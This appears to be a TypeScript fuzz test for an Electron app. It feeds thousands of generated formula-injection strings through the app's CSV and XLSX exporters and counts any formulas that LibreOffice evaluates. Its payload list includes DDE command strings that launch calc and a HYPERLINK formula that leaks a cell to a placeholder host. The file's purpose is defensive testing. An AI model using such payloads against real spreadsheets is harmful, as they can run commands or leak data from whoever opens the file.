import { spawnSync } from 'node:child_process'
import { readFileSync, writeFileSync } from 'node:fs'
import { join } from 'node:path'
import { decisionsCsv, decisionsXlsx } from '../../electron/core/features/packs/decision-table.ts'
import type { Chance } from '../../resources/sample/random.ts'
import type { RecordDocument } from '../../shared/contract/record-document.ts'
import { readCsv } from '../../shared/exchange/csv-text.ts'
import { csvText, printable, sheetText } from '../../shared/exchange/csv-write.ts'
import { unguarded } from '../../shared/exchange/text.ts'
import { ask } from '../support/core.ts'
import { openDeciding } from '../support/decided.ts'
import { inFolder } from './places.ts'
import { needPrograms } from './programs.ts'
import { type Row, rowChance, times } from './row.ts'

/** What turns text into a formula somewhere, alone or behind what a reader skips. */
const ARMS = [
  '=',
  '+',
  '-',
  '@',
  '\t',
  '\r',
  '\n',
  '\0',
  '＝',
  '＋',
  '－',
  '＠',
  "'",
  "'='",
  ' =',
  '\u00a0=',
  '\ufeff=',
  '\u3000@',
  '""=',
  ';=',
  ',=',
  '|',
]
const BODIES = [
  "cmd|' /C calc'!A0",
  'HYPERLINK("http://x/?"&A1,"y")',
  '1+1',
  'SUM(A1:A9)',
  '_x003D_1',
  'DDE("cmd";"/C calc";"x")',
  '2026-01-05',
  '1e9',
  'TRUE',
  'plain words',
]
const REST = [
  '',
  '"',
  ',',
  ';',
  '\r\n',
  '\n',
  '\t',
  ' ',
  'ü',
  '表',
  '😀',
  "'",
  '=1',
  '|',
  '\\',
  '&amp;',
  '<f>1</f>',
  ']]>',
  '\u2028',
]

const hostile = (chance: Chance): string =>
  `${chance.pick(ARMS)}${chance.pick(BODIES)}${chance.pick(REST)}${chance.pick(REST)}${chance.below(3) === 0 ? chance.pick(ARMS) : ''}`

/**
 * Hostile text through both tables of a pack and the repair file's writer, read back by the program's own reader, and
 * in LibreOffice, where formulas are counted. A sheet with a formula goes the same way, so that the count can count.
 */
export const row: Row = {
  id: 'S11',
  async run() {
    needPrograms('soffice')
    const chance = rowChance('S11')
    const runs = times(20_000, 500)
    const texts = Array.from({ length: runs }, () => hostile(chance))
    const own = ownReader(texts)
    const office = await inFolder(async (folder) => inOffice(folder, texts, await someRecord()))
    return {
      figure: `${runs} texts: ${own} not equal in the program’s reader; in LibreOffice ${office.csv.formulas} formulas and ${office.csv.unequal} unequal by CSV, ${office.xlsx.formulas} and ${office.xlsx.unequal} by XLSX (${office.xlsx.cells} cells); control sheet: ${office.control} formulas; read with semicolon, tab and bar: ${office.elsewhere.join(', ')} formulas (control ${office.elsewhereControl.join(', ')})`,
      ok:
        own +
          office.csv.formulas +
          office.csv.unequal +
          office.xlsx.formulas +
          office.xlsx.unequal ===
          0 &&
        office.xlsx.cells >= runs &&
        office.control === 2 &&
        office.elsewhere.every((formulas) => formulas === 0) &&
        office.elsewhereControl.every((formulas) => formulas === 1),
    }
  },
}

/** Texts that come back changed by more than the apostrophe, and blanks, which are no cells. */
function ownReader(texts: readonly string[]): number {
  const cursor = readCsv(csvText(texts.map((text) => ['x', text])).slice(1), ',')
  let at = 0
  let unequal = 0
  for (let read = cursor.next(); read !== null; read = cursor.next()) {
    if (read === 'blank') continue
    if (unguarded(String(read.cells[1] ?? '')) !== printable(texts[at] ?? '')) unequal++
    at++
  }
  return unequal + Math.abs(texts.length - at)
}

async function someRecord(): Promise<RecordDocument> {
  const deciding = await openDeciding()
  try {
    const [row] = (await deciding.board()).rows
    if (!row) throw new RangeError('The sample has no candidates.')
    const { recordId } = await deciding.sign(row.repId)
    return (await ask(deciding.core, 'records.get', { recordId })).document
  } finally {
    await deciding.close()
  }
}

/** Columns of the tables that carry typed text. */
const TEXTS = ['cycle', 'name', 'opening', 'reason', 'conditions'] as const

async function inOffice(folder: string, texts: readonly string[], one: RecordDocument) {
  const records: RecordDocument[] = []
  for (let at = 0; at + TEXTS.length <= texts.length; at += TEXTS.length) {
    const [cycleName = '', name = '', opening = '', reason = '', conditions = ''] = texts.slice(at)
    const subject = one.subject && { ...one.subject, name }
    records.push({ ...one, cycleName, subject, opening, reason, conditions })
  }
  writeFileSync(join(folder, 'decisions.csv'), decisionsCsv(records))
  writeFileSync(join(folder, 'decisions.xlsx'), await decisionsXlsx(records))
  writeFileSync(join(folder, 'control.csv'), 'a,b\r\n=1+1,"=SUM(1;2)"\r\n')
  const wanted = (as: (text: string) => string) =>
    records.map((record) =>
      [
        record.cycleName,
        record.subject?.name,
        record.opening,
        record.reason,
        record.conditions,
      ].map((text) => as(text ?? '')),
    )
  return {
    csv: compare(
      folder,
      'decisions.csv',
      wanted((text) => lines(printable(text))),
    ),
    xlsx: compare(
      folder,
      'decisions.xlsx',
      wanted((text) => lines(sheetText(text))),
    ),
    control: formulasIn(convert(folder, 'control.csv', 'fods')),
    elsewhere: SEPARATORS.map((separator) =>
      formulasIn(convert(folder, 'decisions.csv', 'fods', separator)),
    ),
    elsewhereControl: SEPARATORS.map((separator) => {
      const name = `control-${separator.charCodeAt(0)}.csv`
      writeFileSync(join(folder, name), `a,Good year${separator}=1+41${separator}and steady\r\n`)
      return formulasIn(convert(folder, name, 'fods', separator))
    }),
  }
}

/** LibreOffice keeps one kind of line end inside a cell. */
const lines = (text: string) => text.replace(/\r\n?/g, '\n')

/**
 * What LibreOffice makes of a text in a table without types: of several line ends at its end it keeps one, and a number
 * or a date with blanks around it is read as one.
 */
function isReadFromCsv(read: string, text: string): boolean {
  const oneEnd = (of: string) => lines(of).replace(/\n+$/, '\n')
  const isValue = /^\d/.test(text.trim())
  return (
    oneEnd(read) === oneEnd(text) ||
    (isValue && (read === text.trim() || Number(read) === Number(text)))
  )
}

/** Quote mark, UTF-8, from line 1; formulas are to be evaluated, as a careless person would open it. */
const asCsv = (separator: string) =>
  `${separator.charCodeAt(0)},34,76,1,,0,false,false,false,false,false,-1,true`
/** What spreadsheets of other countries take for the end of a cell. */
const SEPARATORS = [';', '\t', '|']

/** Opens a file in LibreOffice and saves it in another form. */
function convert(folder: string, name: string, to: string, separator = ','): string {
  const profile = `-env:UserInstallation=file://${folder}/profile`
  const reading = name.endsWith('.csv') ? [`--infilter=CSV:${asCsv(separator)}`] : []
  const ran = spawnSync(
    'soffice',
    [
      profile,
      '--headless',
      ...reading,
      '--convert-to',
      to,
      '--outdir',
      join(folder, 'out'),
      join(folder, name),
    ],
    { encoding: 'utf8', timeout: 120_000 },
  )
  const ending = to.replace(/:.*$/, '')
  const path = join(folder, 'out', name.replace(/\.\w+$/, `.${ending}`))
  try {
    return readFileSync(path, 'utf8')
  } catch {
    throw new Error(`LibreOffice did not open ${name}: ${ran.stderr || ran.stdout}`)
  }
}

const formulasIn = (sheet: string): number => sheet.match(/table:formula=/g)?.length ?? 0

function compare(folder: string, name: string, wanted: readonly (readonly string[])[]) {
  const formulas = formulasIn(convert(folder, name, 'fods'))
  const back = convert(
    folder,
    name,
    'csv:Text - txt - csv (StarCalc):44,34,76,1,,0,true,true,false,false,false,0',
  )
  const cursor = readCsv(back, ',')
  const rows: string[][] = []
  for (let read = cursor.next(); read !== null; read = cursor.next())
    if (read !== 'blank') rows.push(read.cells.map(String))
  const [head = [], ...body] = rows
  const places = TEXTS.map((title) => head.indexOf(title))
  let unequal = Math.abs(body.length - wanted.length) * TEXTS.length
  let cells = 0
  for (const [at, texts] of wanted.entries()) {
    for (const [column, text] of texts.entries()) {
      cells++
      const seen = body[at]?.[places[column] ?? -1] ?? ''
      const isSame = name.endsWith('.csv')
        ? isReadFromCsv(unguarded(seen), text)
        : lines(seen) === text
      if (!isSame) unequal++
    }
  }
  return { formulas, unequal, cells }
}
